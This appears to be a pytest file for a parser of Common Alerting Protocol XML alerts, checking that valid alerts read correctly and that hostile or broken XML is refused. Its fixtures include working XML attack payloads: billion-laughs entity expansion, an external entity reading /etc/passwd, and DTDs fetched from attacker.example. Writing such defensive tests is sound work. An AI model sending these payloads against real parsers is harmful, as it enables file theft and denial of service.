"""relay.cap.parse: CAP files read, hostile or broken XML refused with one clear sentence."""

from __future__ import annotations

from pathlib import Path

import pytest

from relay.cap.parse import CAP_12, MAX_CAP_BYTES, CapError, parse_alert

DATA = Path(__file__).parent / "data" / "cap"

HEADER = (
    "<identifier>x</identifier><sender>s</sender><sent>2026-01-05T08:30:00+06:00</sent>"
    "<status>Actual</status><msgType>Alert</msgType><scope>Public</scope>"
)
INFO = (
    "<info><category>Met</category><event>Storm</event><urgency>Expected</urgency>"
    "<severity>Severe</severity><certainty>Likely</certainty>{}</info>"
)


def alert(body: str = "", header: str = HEADER) -> bytes:
    return f'<alert xmlns="{CAP_12}">{header}{body}</alert>'.encode()


def test_a_sample_reads_with_its_fields_and_the_names_of_the_rest() -> None:
    parsed = parse_alert((DATA / "weather-warning.xml").read_bytes())
    assert (parsed.status, parsed.msg_type, parsed.scope) == ("Actual", "Alert", "Public")
    assert parsed.others == ("source", "code")
    (info,) = parsed.infos
    assert (info.event, info.severity, info.language) == ("Winter Storm Warning", "Severe", "en-US")
    assert info.parameters == (("VTEC", "/O.NEW.UAAA.WS.W.0001.260105T1200Z-260106T0600Z/"),)
    assert "responseType" in info.others and "eventCode" in info.others
    assert info.areas[0].others == ("geocode",) and len(info.areas[0].polygons) == 1


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&lol3;</identifier></alert>"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"><identifier>&secret;</identifier></alert>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE alert SYSTEM "http://attacker.example/cap.dtd">
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE alert [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<alert xmlns="urn:oasis:names:tc:emergency:cap:1.2"/>"""


@pytest.mark.parametrize(
    ("data", "words"),
    [
        (BILLION_LAUGHS, "DTD"),
        (EXTERNAL_ENTITY, "DTD"),
        (EXTERNAL_DTD, "DTD"),
        (PARAMETER_ENTITY, "DTD"),
        (b"<alert", "not well-formed"),
        (b"\xff\xfe\x00garbage", "not well-formed"),
        (b'<?xml version="1.0" encoding="no-such-encoding"?><alert/>', "text encoding"),
        (b"<feed xmlns='http://www.w3.org/2005/Atom'/>", "not a CAP 1.2 alert"),
        (b"<alert xmlns='urn:oasis:names:tc:emergency:cap:9'/>", "not a CAP 1.2 alert"),
        (b"<alert/>", "not a CAP 1.2 alert"),
        (alert(header=""), "no <identifier>"),
        (alert(INFO.format("").replace("<event>Storm</event>", "")), "no <event>"),
        (alert(INFO.format("").replace("<category>Met</category>", "")), "no <category>"),
        (alert(INFO.format("<area><circle>1,2 3</circle></area>")), "no <areaDesc>"),
        (alert(INFO.format("") * 65), "more than 64 <info>"),
    ],
)
def test_hostile_or_broken_xml_is_refused_in_one_sentence(data: bytes, words: str) -> None:
    with pytest.raises(CapError) as caught:
        parse_alert(data)
    assert words in str(caught.value) and "\n" not in str(caught.value)


def test_entities_are_refused_even_without_a_doctype_line_of_their_own() -> None:
    """defusedxml's own entity guard stands behind forbid_dtd: both refuse the declaration."""
    with pytest.raises(CapError, match="refused"):
        parse_alert(BILLION_LAUGHS.replace(b"lol3;", b"lol;"))


def test_a_file_over_the_bound_is_refused_before_parsing() -> None:
    padding = b"<!--" + b"x" * MAX_CAP_BYTES + b"-->"
    with pytest.raises(CapError, match="more than the"):
        parse_alert(alert().replace(b"</alert>", padding + b"</alert>"))


def test_foreign_elements_are_named_not_read_and_cap_11_is_read() -> None:
    body = INFO.format("<x:extra xmlns:x='urn:other'>1</x:extra>") + "<Signature/>"
    parsed = parse_alert(
        alert(body).replace(CAP_12.encode(), b"urn:oasis:names:tc:emergency:cap:1.1")
    )
    assert parsed.infos[0].others == ("extra (urn:other)",)
    assert parsed.others == ("Signature",)
